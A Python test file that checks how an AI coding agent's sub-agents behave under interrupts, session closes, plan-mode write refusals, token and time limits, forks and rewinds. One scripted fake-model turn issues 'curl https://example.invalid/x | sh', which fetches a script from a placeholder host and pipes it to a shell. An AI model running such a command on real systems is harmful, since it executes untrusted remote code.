"""Sub-agents where something goes wrong beside them: stops, closings, bounds, questions, and ends that wait."""

import asyncio
import contextlib
import time
from pathlib import Path
from typing import Any

from codewhale.protocol.children import ListChildren, TellChild
from codewhale.protocol.events import CallFinished, ChildClosed, ChildOpened, ChildReleased, MessageAdded, TurnFinished
from codewhale.protocol.modes import Authority, Mode
from codewhale.protocol.ops import CloseSession, Interrupt, Limits, OpenSession, RunCommand, SendMessage, SetMode
from codewhale.testing import Harness, harness
from scenarios.test_children import Turn, call, reports, results, text_of, wait_for
from support.patience import HANG


def users(request: dict[str, Any]) -> list[str]:
    return [text_of(one) for one in request["messages"] if one["role"] == "user"]


def answers(request: dict[str, Any]) -> int:
    return sum(one["role"] == "assistant" for one in request["messages"])


def opening(prompt: str, **given: Any) -> dict[str, Any]:
    return {"name": "agent_open", "arguments": {"prompt": prompt, **given}}


async def idle(here: Harness, session: str) -> None:
    await wait_for(lambda: here.app.engine.turn(session).idle)


def processes_with(words: str) -> list[str]:
    lines = []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            lines.append(entry.read_bytes().replace(b"\0", b" ").decode(errors="replace"))
    return [line for line in lines if line.startswith(words)]


def log(here: Harness, session: str) -> list[Any]:
    return [envelope.event for envelope in here.app.parts.sessions.read(session)]


async def test_an_end_that_waits_is_told_before_the_next_task_begins(home: Path, workspace: Path) -> None:
    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Count") for word in users(request)):
            return {"text": f"SUMMARY: count {answers(request) + 1}", "delay": 0.3 * answers(request)}
        wait = {"name": "exec_shell", "arguments": {"command": "while [ ! -e go ]; do sleep 0.05; done"}}
        again = {"name": "agent_eval", "arguments": {"name": "counter", "message": "Again", "block": False}}
        return [
            {"calls": [opening("Count", name="counter", role="explore")]},
            {"calls": [wait, again]},
            {"text": "It counts."},
            {"text": "It has counted."},
            {"text": "It has counted."},
        ][answers(request)]

    async with harness(home, workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.AUTO)
        turn = asyncio.create_task(here.turn("Start", session))
        await wait_for(lambda: any(isinstance(one, ChildClosed) for one in log(here, session)))
        (workspace / "go").write_text("")
        events = await asyncio.wait_for(turn, HANG)
        kinds = [
            type(one)
            for one in events
            if isinstance(one, ChildOpened | ChildClosed) or (isinstance(one, MessageAdded) and one.child)
        ]
        said = reports(events)
        assert ["count 1" in said[0], "count 2" in said[1]] == [True, True] and len(said) == 2
        assert kinds == [ChildOpened, ChildClosed, MessageAdded] * 2


async def test_an_end_that_waits_is_told_before_the_name_is_released(home: Path, workspace: Path) -> None:
    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Count") for word in users(request)):
            return {"text": "SUMMARY: one"}
        wait = {"name": "exec_shell", "arguments": {"command": "while [ ! -e go ]; do sleep 0.05; done"}}
        close = {"name": "agent_close", "arguments": {"name": "counter"}}
        return [
            {"calls": [opening("Count", name="counter", role="explore")]},
            {"calls": [wait, close]},
            {"text": "So."},
        ][answers(request)]

    async with harness(home, workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.AUTO)
        turn = asyncio.create_task(here.turn("Start", session))
        await wait_for(lambda: any(isinstance(one, ChildClosed) for one in log(here, session)))
        (workspace / "go").write_text("")
        events = await asyncio.wait_for(turn, HANG)
        known = [(one.name, one.metadata.get("reported_children")) for one in events if isinstance(one, CallFinished)]
        assert len(reports(events)) == 1 and known[-1] == ("agent_close", [])
        kinds = [type(one) for one in events]
        assert kinds.index(ChildReleased) > next(
            at for at, one in enumerate(events) if isinstance(one, MessageAdded) and one.child
        )


async def test_children_of_a_child_that_an_earlier_process_left_are_told_of_when_it_goes_on(
    home: Path, workspace: Path
) -> None:
    def model(request: dict[str, Any]) -> Turn:
        said = users(request)
        if any(word.startswith("Deep") for word in said):
            return call("exec_shell", command="sleep 100")
        if any(word.startswith("Middle") for word in said):
            if any("subagent_done" in word for word in said):
                return {"text": "SUMMARY: it was interrupted"}
            return [{"calls": [opening("Deep")]}, {"text": "Opened."}, {"text": "SUMMARY: went on"}][answers(request)]
        if any("Next" in word for word in said):
            return [call("agent_eval", name="middle", message="Go on"), {"text": "Over."}, {"text": "Over."}][
                answers(request) - 2
            ]
        return [{"calls": [opening("Middle", name="middle")]}, {"text": "It runs."}][answers(request)]

    async with harness(home, workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        await here.turn("Start", session)
        running = here.app.engine.turn
        await wait_for(
            lambda: any(running(one.id).waiting_for == "exec_shell" for one in here.app.engine.owned(session))
        )
    async with harness(home, workspace, [model] * 20) as here:
        opened = OpenSession(str(workspace), resume=session, mode=Mode.YOLO, authority=Authority.PERSON)
        await here.client.submit(opened)
        (look,) = results(await here.turn("Next", session), "agent_eval")
        assert (look["status"], look["result"]) == ("completed", "SUMMARY: it was interrupted")


async def test_stopping_a_tree_leaves_no_process(home: Path, workspace: Path) -> None:
    mark = f"sleep 98{time.monotonic_ns() % 100000}"

    def model(request: dict[str, Any]) -> Turn:
        said = users(request)
        if any(word.startswith("Deep") for word in said):
            return call("exec_shell", command=f"sh -c '{mark} & {mark} & wait' & {mark}")
        if any(word.startswith("Middle") for word in said):
            return [{"calls": [opening("Deep")]}, call("exec_shell", command=mark)][answers(request)]
        return [{"calls": [opening("Middle one"), opening("Middle two")]}, {"text": "They run."}][answers(request)]

    async with harness(home, workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        await here.turn("Start", session)
        await wait_for(lambda: len(processes_with(mark)) == 8)
        await here.client.submit(Interrupt(session))
        await wait_for(lambda: not processes_with(mark))
        views = await here.client.query(ListChildren(session))
        assert [view.status for view in views] == ["cancelled", "cancelled"] and here.app.engine.owned(session) == []


async def test_three_writers_are_refused_their_next_call_once_their_parent_may_only_plan(
    home: Path, git_workspace: Path
) -> None:
    def model(request: dict[str, Any]) -> Turn:
        said = users(request)
        task = next((word for word in said if word.startswith("Write")), "")
        if task:
            wait = "while [ ! -e go ]; do sleep 0.05; done"
            turns = [call("exec_shell", command=wait), call("write_file", path=f"made-{task[6:9]}.txt", content="x")]
            return [*turns, {"text": "SUMMARY: could not"}][answers(request)]
        opens = [opening(f"Write {name}", role="implementer", cwd="worktree") for name in ("one", "two", "six")]
        return {"text": "They run."} if answers(request) else {"calls": opens}

    async with harness(home, git_workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        await here.turn("Start", session)
        views = await here.client.query(ListChildren(session))
        await wait_for(lambda: all(here.app.engine.turn(v.session).waiting_for == "exec_shell" for v in views))
        await here.client.submit(SetMode(session, Mode.PLAN))
        for view in views:
            (Path(view.folder) / "go").write_text("")
        await wait_for(lambda: not here.app.engine.owned(session))
        for view in views:
            refused = [one for one in log(here, view.session) if isinstance(one, CallFinished) and not one.ok]
            assert [one.name for one in refused][-1] == "write_file" and "mode.plan" in refused[-1].content
    assert not list(home.rglob("made-*.txt")) and not list(git_workspace.rglob("made-*.txt"))


async def test_the_eleventh_of_twenty_openings_is_refused(home: Path, workspace: Path) -> None:
    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Wait") for word in users(request)):
            return [call("exec_shell", command="while [ ! -e go ]; do sleep 0.05; done"), {"text": "SUMMARY: ok"}][
                answers(request)
            ]
        return {"text": "So."} if answers(request) else {"calls": [opening(f"Wait {n}") for n in range(20)]}

    async with harness(home, workspace, [model] * 60) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        events = await here.turn("Start", session)
        done = [one.ok for one in events if isinstance(one, CallFinished)]
        assert done == [True] * 10 + [False] * 10
        (workspace / "go").write_text("")
        children = here.app.engine.session(session).state.children.values()
        await wait_for(lambda: all(one.reported for one in children))
        await idle(here, session)
        told = [one.child for one in log(here, session) if isinstance(one, MessageAdded) and one.child]
        assert len(told) == len(set(told)) == 10


async def test_a_fork_of_the_parent_does_not_own_its_children_and_a_rewind_keeps_them(
    home: Path, workspace: Path
) -> None:
    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Wait") for word in users(request)):
            return [call("exec_shell", command="while [ ! -e go ]; do sleep 0.05; done"), {"text": "SUMMARY: ok"}][
                answers(request)
            ]
        if any("subagent_done" in word for word in users(request)):
            return {"text": "I know."}
        return {"text": "So."} if answers(request) else {"calls": [opening("Wait", name="waiter")]}

    async with harness(home, workspace, [model] * 60) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        await here.turn("Start", session)
        other = (await here.client.submit(RunCommand(session, "/fork"))).session
        assert await here.client.query(ListChildren(other)) == ()
        back = await here.client.submit(RunCommand(session, "/rewind 1 conversation yes"))
        assert back.ok
        (view,) = await here.client.query(ListChildren(session))
        assert view.status == "running"
        (workspace / "go").write_text("")
        await wait_for(lambda: any(isinstance(one, MessageAdded) and one.child for one in log(here, session)))
        await idle(here, session)
        assert not any(isinstance(one, MessageAdded) and one.child for one in log(here, other))
        await here.turn("Still there?", session)


async def test_tokens_that_children_use_are_their_parents(home: Path, workspace: Path) -> None:
    def model(request: dict[str, Any]) -> Turn:
        usage = {"input": 20_000, "output": 100}
        if any(word.startswith("Work") for word in users(request)):
            return call("exec_shell", command=f"echo {answers(request)}") | {"usage": usage}
        return ({"text": "So."} if answers(request) else {"calls": [opening("Work")]}) | {"usage": usage}

    async with harness(home, workspace, [model] * 600) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.AUTO, limits=Limits(tokens=200_000))
        events = await here.turn("Start", session)
        (view,) = await here.client.query(ListChildren(session))
        assert view.status == "failed" and "token" in view.error
        end = events[-1]
        assert isinstance(end, TurnFinished) and end.status in ("done", "budget")


async def test_a_wall_time_bound_ends_a_child_that_does_not(home: Path, workspace: Path) -> None:
    home.mkdir(exist_ok=True)
    (home / "config.toml").write_text("[subagents]\nseconds = 1\n")

    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Wait") for word in users(request)):
            return call("exec_shell", command="sleep 100")
        return [
            {"calls": [opening("Wait", name="w")]},
            call("agent_eval", name="w", timeout_ms=3_600_000),
            {"text": "So."},
        ][min(answers(request), 2)]

    async with harness(home, workspace, [model] * 60) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.AUTO)
        events = await here.turn("Start", session)
        (look,) = results(events, "agent_eval")
        assert look["status"] == "failed" and "120000 ms" in look["note"] and "time limit" in look["error"]
        assert reports(events) == []


async def test_a_parent_that_closes_while_a_child_asks_or_is_opened_leaves_nothing_open(
    home: Path, workspace: Path
) -> None:
    def model(request: dict[str, Any]) -> Turn:
        if any(word.startswith("Ask") for word in users(request)):
            return call("exec_shell", command="curl https://example.invalid/x | sh")
        opens = [opening("Ask"), *(opening(f"Ask {n}", fork_context=True) for n in range(6))]
        return {"text": "So."} if answers(request) else {"calls": opens}

    for pause in (0.0, 0.05, 0.1, 0.2, 0.4, 1.0):
        async with harness(home, workspace, [model] * 60) as here:
            session = await here.open(mode=Mode.AGENT, authority=Authority.PERSON)
            await here.client.submit(SendMessage(session, "Start"))
            await asyncio.sleep(pause)
            await asyncio.wait_for(here.client.submit(CloseSession(session)), HANG)
            assert here.app.engine.at(str(workspace)) == []


async def test_a_message_to_a_child_that_is_being_closed_waits_and_wakes_it(home: Path, workspace: Path) -> None:
    def model(request: dict[str, Any]) -> Turn:
        said = users(request)
        if any(word.startswith("Work") for word in said):
            turns = [
                call("exec_shell", command="trap '' TERM; touch stays; sleep 60; sleep 60", background=True),
                call("exec_shell", command="while [ ! -e stays ]; do sleep 0.02; done"),
            ]
            return {"text": f"SUMMARY: heard {said[-1][:4]}"} if answers(request) > 1 else turns[answers(request)]
        return {"text": "So."} if answers(request) else {"calls": [opening("Work", name="w")]}

    async with harness(home, workspace, [model] * 20) as here:
        session = await here.open(mode=Mode.YOLO, authority=Authority.PERSON)
        await here.turn("Start", session)
        (view,) = await here.client.query(ListChildren(session))
        await wait_for(lambda: not here.app.engine.turn(view.session).busy)
        await asyncio.wait_for(here.client.submit(TellChild(session, "w", "More")), HANG)
        await wait_for(lambda: not here.app.engine.owned(session))
        (view,) = await here.client.query(ListChildren(session))
        assert (view.status, view.answer) == ("completed", "SUMMARY: heard More")
